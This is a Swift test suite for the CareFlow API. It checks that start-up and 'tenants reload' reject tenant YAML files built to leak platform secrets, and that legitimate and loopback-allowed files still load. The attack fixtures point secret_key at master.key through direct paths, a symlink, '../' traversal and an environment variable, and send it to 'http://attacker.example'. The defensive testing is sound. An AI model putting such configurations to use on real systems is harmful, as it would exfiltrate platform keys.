@testable import CareFlowAPI
import CareFlowCore
import Foundation
import Testing
import VaporTesting

/// Issue 10, finding 7, end to end: start-up and `tenants reload` refuse a tenant file that
/// reads platform secrets or sends secrets in clear; legitimate files still load.
@Suite("Tenant files cannot exfiltrate platform secrets")
struct TenantSecretTests {
    static func file(_ slug: String, payments: String) -> String {
        """
        slug: \(slug)
        name: Tenant \(slug)
        timezone: UTC
        integrations:
          payments: \(payments)
        """
    }

    @Test("start-up refuses the reported attack: file:<data>/keys/master.key sent to http://attacker", arguments: TestBackend.enabled)
    func startUpRefusesAttack(backend: TestBackend) async throws {
        var reached = false
        await #expect(throws: (any Error).self) {
            try await withCareFlow(backend, configure: { config in
                // The secrets directory misconfigured as the data folder itself: still refused.
                config.secretsDirectory = config.dataDirectory
                config.allowLoopbackAdapters = false
                let attack = Self.file("evil", payments: "{adapter: stripe, secret_key: file:\(config.keysDirectory)/master.key, webhook_secret: env:EVIL_WHSEC, base_url: \"http://attacker.example:8000\"}")
                try? attack.write(toFile: config.tenantsDirectory + "/evil.yaml", atomically: true, encoding: .utf8)
                config.secretEnvironment = ["EVIL_WHSEC": "whsec_x"]
            }) { _ in reached = true }
        }
        #expect(!reached)
    }

    @Test("tenants reload refuses each escape with file, field and reason, and keeps what was in force", arguments: TestBackend.enabled)
    func reloadRefuses(backend: TestBackend) async throws {
        let secrets = FileManager.default.temporaryDirectory.appendingPathComponent("careflow-run-secrets-\(UUID().uuidString)").path
        try FileManager.default.createDirectory(atPath: secrets, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(atPath: secrets) }
        try "sk_test_from_file".write(toFile: secrets + "/lc_stripe_key", atomically: true, encoding: .utf8)
        let legit = Self.file("legit", payments: "{adapter: stripe, secret_key: file:\(secrets)/lc_stripe_key, webhook_secret: env:LC_WHSEC, base_url: \"https://api.stripe.example\"}")
        try await withCareFlow(backend, tenantFiles: ["legit.yaml": legit], configure: { config in
            config.secretsDirectory = secrets
            config.allowLoopbackAdapters = false
            config.secretEnvironment = ["LC_WHSEC": "whsec_legit", "CAREFLOW_MASTER_KEYS": "platform-key"]
        }) { app in
            let config = app.services.configuration
            // The legitimate file loaded, its secrets resolved.
            #expect(try await app.services.integrations.webhookSecrets(forSlug: "legit", .payments, field: "webhook_secret", adapter: "stripe") == ["whsec_legit"])
            try FileManager.default.createSymbolicLink(atPath: secrets + "/innocent", withDestinationPath: config.keysDirectory + "/master.key")
            let attacks: [(String, String)] = [
                ("secret_key: file:\(config.keysDirectory)/master.key, webhook_secret: env:LC_WHSEC, base_url: \"https://api.stripe.example\"", "secret_key"),
                ("secret_key: file:\(secrets)/innocent, webhook_secret: env:LC_WHSEC", "secret_key"),
                ("secret_key: file:\(secrets)/../\((config.keysDirectory as NSString).lastPathComponent)/master.key, webhook_secret: env:LC_WHSEC", "secret_key"),
                ("secret_key: env:CAREFLOW_MASTER_KEYS, webhook_secret: env:LC_WHSEC", "secret_key"),
                ("secret_key: file:\(secrets)/lc_stripe_key, webhook_secret: env:LC_WHSEC, base_url: \"http://attacker.example\"", "base_url"),
                ("secret_key: file:\(secrets)/lc_stripe_key, webhook_secret: env:LC_WHSEC, base_url: \"http://127.0.0.1:9\"", "base_url"),
            ]
            for (settings, field) in attacks {
                try Self.file("evil", payments: "{adapter: stripe, \(settings)}")
                    .write(toFile: config.tenantsDirectory + "/evil.yaml", atomically: true, encoding: .utf8)
                do {
                    try await app.services.integrations.reload()
                    Issue.record("reload accepted: \(settings)")
                } catch {
                    #expect("\(error)".contains("evil.yaml"), "\(error)")
                    #expect("\(error)".contains("integrations.payments.\(field)"), "\(error)")
                    #expect(!"\(error)".contains("platform-key"))
                }
                #expect(app.services.tenants["evil"] == nil)
                #expect(app.services.tenants["legit"] != nil)
            }
        }
    }

    @Test("loopback adapters load when the operator allows them (CAREFLOW_ALLOW_LOOPBACK_ADAPTERS=1)", arguments: TestBackend.enabled)
    func loopbackOptIn(backend: TestBackend) async throws {
        #expect(AppConfiguration.fromEnvironment(["CAREFLOW_ALLOW_LOOPBACK_ADAPTERS": "1"]).allowLoopbackAdapters)
        #expect(!AppConfiguration.fromEnvironment([:]).allowLoopbackAdapters)
        #expect(AppConfiguration.fromEnvironment([:]).secretsDirectory == "/run/secrets")
        let local = Self.file("local", payments: "{adapter: stripe, secret_key: env:LOCAL_KEY, webhook_secret: env:LOCAL_WHSEC, base_url: \"http://127.0.0.1:12111\"}")
        try await withCareFlow(backend, tenantFiles: ["local.yaml": local], configure: { config in
            config.allowLoopbackAdapters = AppConfiguration.fromEnvironment(["CAREFLOW_ALLOW_LOOPBACK_ADAPTERS": "1"]).allowLoopbackAdapters
            config.secretEnvironment = ["LOCAL_KEY": "sk_test", "LOCAL_WHSEC": "whsec_local"]
        }) { app in
            #expect(app.services.tenants["local"] != nil)
        }
    }
}
